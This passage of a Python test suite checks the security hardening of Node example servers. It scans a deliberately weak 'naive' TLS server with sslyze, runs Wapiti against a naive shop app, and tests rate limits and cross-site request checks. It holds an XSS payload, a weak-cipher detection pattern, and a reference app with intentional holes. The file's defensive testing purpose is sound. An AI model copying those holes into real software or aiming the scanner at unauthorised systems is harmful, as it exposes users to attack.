import {{ serverOf as hardened }} from '{hardened}';
const pem = readFileSync('{tls}');
const made = {{ naive, hardened, node: (app, tls) => plain(tls, app) }};
const server = made['{which}']((req, res) => res.end('ok'), {{ key: pem, cert: pem }});
process.once('SIGTERM', () => {{ server.close(); server.closeAllConnections(); }});
server.listen(0, '127.0.0.1', () =>
  console.log(`listening on http://127.0.0.1:${{server.address().port}}`));
"""
# as sslyze's options and its results name them
PROTOCOLS = {
    "sslv2": "ssl_2_0", "sslv3": "ssl_3_0", "tlsv1": "tls_1_0",
    "tlsv1_1": "tls_1_1", "tlsv1_2": "tls_1_2", "tlsv1_3": "tls_1_3",
}  # fmt: skip


@contextlib.contextmanager
def https(folder, which: str):
    tls = browser.certificate(folder, "shop.test")
    path = folder / "tls.mjs"
    twins = {"naive": uri("server.naive.mjs"), "hardened": uri("server.mjs")}
    path.write_text(TLS.format(tls=tls, which=which, **twins))
    with node.serve(path) as server:
        yield server


def suites(port: int) -> dict[str, list[str]]:
    """What sslyze finds: the suites that the server takes, by protocol."""
    wanted = [f"--{option}" for option in PROTOCOLS]
    done = subprocess.run(
        [sys.executable, "-m", "sslyze", *wanted, "--json_out=-", f"127.0.0.1:{port}"],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.stdout, done.stderr
    found = json.loads(done.stdout)["server_scan_results"][0]["scan_result"]
    return {
        one: [
            suite["cipher_suite"]["name"]
            for suite in found[f"{one}_cipher_suites"]["result"]["accepted_cipher_suites"]
        ]
        for one in PROTOCOLS.values()
    }


WEAK = re.compile(r"RC4|3DES|DES_CBC|NULL|EXPORT|anon|MD5")


@pytest.mark.timing
@pytest.mark.claim("hardening/node-tls-is-weak")
def test_sslyze_finds_nothing_old_in_nodes_own_https_and_much_in_the_naive_one(tmp_path):
    found = {}
    for which in ("naive", "node", "hardened"):
        with https(tmp_path, which) as server:
            found[which] = suites(server.port)
    old = list(PROTOCOLS.values())[:4]
    assert found["naive"]["tls_1_0"] and found["naive"]["tls_1_1"]
    for which in ("node", "hardened"):
        assert not any(found[which][one] for one in old)
        assert found[which]["tls_1_3"]
        assert not [s for some in found[which].values() for s in some if WEAK.search(s)]
    assert found["node"] == found["hardened"]  # the default needs nothing
    assert [s for s in found["naive"]["tls_1_2"] if "anon" in s]  # no certificate at all
    shown = {"TLS 1.0": "tls_1_0", "TLS 1.1": "tls_1_1", "TLS 1.2": "tls_1_2"}
    shown |= {"TLS 1.3": "tls_1_3"}
    names = {"naive": "the advice found", "node": "Node alone", "hardened": "hardened"}
    counts = {
        name: [len(found[which][one]) for one in shown.values()]
        for which, name in names.items()
    }
    evidence.hold(
        f"{TOPIC}/tls-old-naive", sum(counts["the advice found"][:2]), "suites",
        "suites of TLS 1.0 and 1.1 that the naive server takes, by sslyze",
        source=SOURCE, above=0,
    )  # fmt: skip
    drawing, axes = figure.plot(height=2.8)
    for index, (name, values) in enumerate(counts.items()):
        places = [n + (index - 1) * 0.27 for n in range(len(shown))]
        bars = axes.bar(places, values, width=0.25, label=name)
        axes.bar_label(bars)
    axes.set_xticks(range(len(shown)), list(shown))
    axes.set_ylabel("suites taken")
    axes.legend(loc="upper left")
    axes.grid(visible=False, axis="x")
    figure.publish(
        f"{TOPIC}/tls", drawing,
        "Bars by protocol: Node's own HTTPS server and the hardened one take no suite of "
        "TLS 1.0 or 1.1 and the same of 1.2 and 1.3; the one configured by old advice "
        "takes suites of all four, some without any certificate.",
        {"protocol": list(shown), **counts}, source=SOURCE,
    )  # fmt: skip


def test_the_hardened_server_takes_no_large_head_and_no_ambiguous_request(tmp_path):
    large = {"X-Large": "x" * 10_000}
    for which, status in (("naive", 200), ("hardened", 431)):
        with https(tmp_path, which) as server:
            url = f"https://127.0.0.1:{server.port}"
            with load.client(url) as client:
                assert client.get("/", headers=large).status_code == status


# --- a scanner ----------------------------------------------------------------------

WAPITI = ROOT / "tests/tools/wapiti/.venv/bin/wapiti"
MODULES = "cookieflags,csp,http_headers,permanentxss,redirect,xss"


def scan(folder, server, person: dict) -> dict[str, int]:
    """Wapiti's findings by category, for somebody who is logged in."""
    visitor = Visitor(server, person)
    report = folder / "wapiti.json"
    argv = [
        WAPITI, "-u", f"{server.url}/orders", "-m", MODULES, "--scope", "folder",
        "--max-scan-time", "40", "--max-attack-time", "20", "--flush-session",
        "--store-session", folder / "session", "--store-config", folder / "config",
        "-s", f"{server.url}/login?next=/orders", "-s", f"{server.url}/orders/ord_1",
        "-H", f"Cookie: {visitor.headers['Cookie']}",
        "-H", "Sec-Fetch-Site: same-origin",
        "--no-bugreport", "-f", "json", "-o", report,
    ]  # fmt: skip
    done = subprocess.run(
        [str(part) for part in argv],
        capture_output=True, text=True, timeout=90, check=False,
    )  # fmt: skip
    # all of them ran, so that nothing found is not nothing looked for
    assert all(f"Launching module {one}" in done.stdout for one in MODULES.split(","))
    assert report.exists(), done.stdout[-2000:] + done.stderr[-2000:]
    found = json.loads(report.read_text())
    kinds = {**found["vulnerabilities"], **found["anomalies"]}
    return {kind: len(items) for kind, items in kinds.items() if items}


@pytest.mark.heavy
@pytest.mark.claim("hardening/clean-scan")
def test_a_scanner_finds_holes_in_the_naive_app_and_none_in_the_hardened(app, tmp_path):
    if not WAPITI.exists():
        pytest.skip("wapiti is not installed: run make heavy")
    found = {}
    for snippet in ("app.naive.mjs", "app.mjs"):
        with node.serve(app(snippet, BEHIND)) as server:
            found[snippet] = scan(tmp_path, server, ANN)
            # what no scanner said: Ann reads Bob's
            bobs = Visitor(server, ANN).get("/orders/ord_2").status_code
            assert bobs == (200 if "naive" in snippet else 404)
    assert found["app.mjs"] == {}
    # what it did not find there: the open redirect, the forged form, the stack, and
    # that anybody reads and cancels anybody's order
    assert set(found["app.naive.mjs"]) == {
        "Reflected Cross Site Scripting", "Stored Cross Site Scripting",
        "Content Security Policy Configuration", "Clickjacking Protection",
        "MIME Type Confusion",
    }  # fmt: skip


# --- where this chapter meets others ------------------------------------------------


def test_the_limits_of_rate_limiting_stand_before_the_password(app):
    limits = f"""
    import {{ failureLimits }} from '{uri("rate-limiting/failures.mjs")}';
    const limits = failureLimits({{ store: () => undefined, known: () => null }});
    """
    with node.serve(app("app.mjs", "limits", limits)) as server:
        visitor = Visitor(server)
        wrong = {**ANN, "password": "wrong"}
        codes = [visitor.post("/login", wrong).status_code for _ in range(6)]
        assert codes == [401] * 5 + [429]
        assert visitor.post("/login", ANN).status_code == 429
        assert visitor.post("/login", BOB).status_code == 303  # another account
        foreign = visitor.post("/login", wrong, **{"Sec-Fetch-Site": "cross-site"})
        assert foreign.status_code == 403  # no site makes its visitors use them up


def test_the_jwt_chapters_cookies_and_routes_live_behind_these_headers(tmp_path):
    path = tmp_path / "jwt.mjs"
    path.write_text(f"""
import express from '{package("express")}';
import {{ randomBytes }} from 'node:crypto';
import {{ createApp as createShop }} from '{uri("jwt/shop.mjs")}';
import {{ headers }} from '{uri("headers.mjs")}';
import {{ fromOurPages }} from '{uri("csrf.mjs")}';
export async function createApp() {{
  const env = {{
    JWT_SECRET: randomBytes(32).toString('base64url'),
    JWT_ISSUER: 'https://shop.test', JWT_AUDIENCE: 'https://api.shop.test',
    ORIGINS: 'https://shop.test',
  }};
  const check = async (email) => ({{ id: email }});
  const shop = await createShop({{ env, check }});
  return express().use(headers(), fromOurPages('https://shop.test'), shop);
}}
""")
    ours = {"Origin": "https://shop.test", "Sec-Fetch-Site": "same-origin"}
    with node.serve(path) as server, load.client(server.url) as client:
        answer = client.post("/login", json=ANN, headers=ours)
        assert answer.status_code == 204, answer.text
        assert "nonce-" in answer.headers["Content-Security-Policy"]
        cookie = "; ".join(
            one.split(";")[0] for one in answer.headers.get_list("Set-Cookie")
        )
        me = client.get("/me", headers={"Cookie": cookie})
        assert me.json() == {"id": ANN["email"]}
        placed = client.post("/orders", headers={"Cookie": cookie, **ours})
        assert placed.status_code == 201
        foreign = {"Cookie": cookie, **ours, "Sec-Fetch-Site": "cross-site"}
        assert client.post("/orders", headers=foreign).status_code == 403


def test_on_the_json_api_of_the_rest_chapter_a_policy_for_pages_changes_nothing(tmp_path):
    path = tmp_path / "rest.mjs"
    path.write_text(f"""
import express from '{package("express")}';
import helmet from '{package("helmet")}';
import {{ createApp as createOrders }} from '{uri("rest-apis/orders.mjs")}';
import {{ parseOrder }} from '{uri("validation/order.mjs")}';
export function createApp({{ signal }}) {{
  const authenticate = () => ({{ id: 'ann' }});
  return express().use(helmet(), createOrders({{ authenticate, parseOrder, signal }}));
}}
""")
    body = {"items": [{"sku": "tea", "quantity": 1}], "note": "<script>alert(1)</script>"}
    with node.serve(path) as server, load.client(server.url) as client:
        placed = client.post(
            "/orders", json=body, headers={"Idempotency-Key": "0123456789abcdef"}
        )
        assert placed.status_code == 201, placed.text
        # stored and given back as it came: who shows it must encode it
        assert placed.json()["note"] == body["note"]
        assert placed.headers["X-Content-Type-Options"] == "nosniff"
        assert placed.headers["Content-Type"].startswith("application/json")
        body["admin"] = True
        refused = client.post(
            "/orders", json=body, headers={"Idempotency-Key": "0123456789abcdeg"}
        )
        assert refused.status_code == 422
